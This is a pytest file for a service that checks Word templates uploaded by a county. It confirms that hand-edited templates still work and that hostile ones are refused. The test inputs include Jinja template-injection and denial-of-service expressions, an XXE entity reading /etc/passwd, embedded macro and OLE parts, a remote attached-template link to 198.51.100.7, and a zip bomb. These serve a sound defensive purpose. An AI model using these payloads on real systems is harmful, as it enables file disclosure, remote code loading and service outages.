"""Templates that a county sends in: edited by hand they work, hostile or wrong ones are refused with why."""

import io
import zipfile
from collections.abc import Callable

import docx
import pytest

from app.documents.filling import filled
from app.documents.template_builder import standard_template
from app.intake.document_templates import Unfit, judge
from tests.documents.test_official_papers import MARK, text_of, values_of
from tests.support import files
from workflows.documents.registry import DOCUMENTS

COVER = DOCUMENTS["cover"]
CONTENTS = DOCUMENTS["contents"]


def edited(key: str, change: Callable[[docx.document.Document], object]) -> bytes:
    """Return our template of a document as somebody changed it in an office programme."""
    document = docx.Document(io.BytesIO(standard_template(key)))
    change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    """Return our template with one part more, or with another in its place."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(standard_template("cover"))) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return out.getvalue()


def refused(content: bytes, document: object = COVER) -> tuple[str, str]:
    """Return code and details of the first reason for which a template isn't taken."""
    with pytest.raises(Unfit) as caught:
        judge(content, document)  # type: ignore[arg-type]
    problem = caught.value.problems[0]
    return problem.code, str(problem.details)


def test_a_template_edited_by_hand_keeps_working() -> None:
    """Words added, a row taken away, a name split over runs as WPS does it, a condition."""

    def change(document: docx.document.Document) -> None:
        document.paragraphs[0].text = "禾丰县统一编印"
        table = document.tables[0]
        table._tbl.remove(table.rows[-1]._tr)
        added = document.add_paragraph()
        for piece in ("地址：{", "{ add", "ress }", "}"):
            added.add_run(piece)
        document.add_paragraph("{% if category %}类别：{{ category }}{% endif %}")

    content = edited("cover", change)
    assert "state" in judge(content, COVER).unused
    text = text_of(filled(content, values_of(COVER), MARK, "x"))  # type: ignore[arg-type]
    assert "禾丰县统一编印" in text
    assert "地址：〔address〕" in text
    assert "类别：〔category〕" in text
    assert "目前状态" not in text


def test_unknown_names_are_told_by_name() -> None:
    content = edited("cover", lambda one: one.add_paragraph("{{ hed }}、{{ bank_account }}"))
    code, details = refused(content)
    assert code == "template_names"
    assert "{{ hed }}" in details
    assert "{{ bank_account }}" in details
    # A column of a table is known only within that table.
    content = edited(
        "contents", lambda one: one.add_paragraph("{%p for r in entries %}{{ r.titel }}{%p endfor %}")
    )
    assert refused(content, CONTENTS)[0] in ("template_names", "template_unreadable", "template_language")
    assert (
        refused(edited("cover", lambda one: one.add_paragraph("{{ head.name }}")))[0] == "template_language"
    )


@pytest.mark.parametrize(
    "words",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ head.__class__ }}",
        "{{ cycler.__init__.__globals__ }}",
        "{% for a in range(999999999) %}x{% endfor %}",
        "{% set x = 1 %}",
        "{% include 'a' %}",
        "{{ head | upper }}",
        "{{ 10 ** 99999999 }}",
        "{{ head * 999999999 }}",
        "{{r head }}",
        "{{ head",
    ],
)
def test_a_template_is_no_programme(words: str) -> None:
    """Security.md 2.6: an expression could read what isn't its business, or never end."""
    code, _ = refused(edited("cover", lambda one: one.add_paragraph(words)))
    assert code in ("template_language", "template_names")


def test_the_way_back_stays() -> None:
    def without_code(document: docx.document.Document) -> None:
        for head in (document.sections[0].header, document.sections[0].even_page_header):
            head._element.remove(head.tables[0]._tbl)

    code, details = refused(edited("cover", without_code))
    assert code == "template_way_back"
    assert "{{ qr }}" in details


def test_files_that_act_or_load_by_themselves_are_refused() -> None:
    assert refused(with_part("word/vbaProject.bin", b"x"))[0] == "template_active"
    assert refused(with_part("word/embeddings/oleObject1.bin", b"x"))[0] == "template_active"
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    assert refused(with_part("word/extra.xml", entity))[0] == "template_active"
    with zipfile.ZipFile(io.BytesIO(standard_template("cover"))) as archive:
        relations = archive.read("word/_rels/document.xml.rels").decode()
    remote = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://198.51.100.7/a.dotm" TargetMode="External"/></Relationships>'
    )
    changed = relations.replace("</Relationships>", remote).encode()
    assert refused(with_part("word/_rels/document.xml.rels", changed))[0] == "template_active"


@pytest.mark.parametrize("content", [b"", b"hello", files.jpeg(), files.office()])
def test_what_is_no_word_file_is_told_so(content: bytes) -> None:
    assert refused(content)[0] == "template_unreadable"


def test_a_bomb_is_refused_before_it_unpacks() -> None:
    assert refused(files.zip_bomb())[0] in ("template_large", "template_unreadable")
    assert refused(b"x" * 2_000_001)[0] == "template_large"
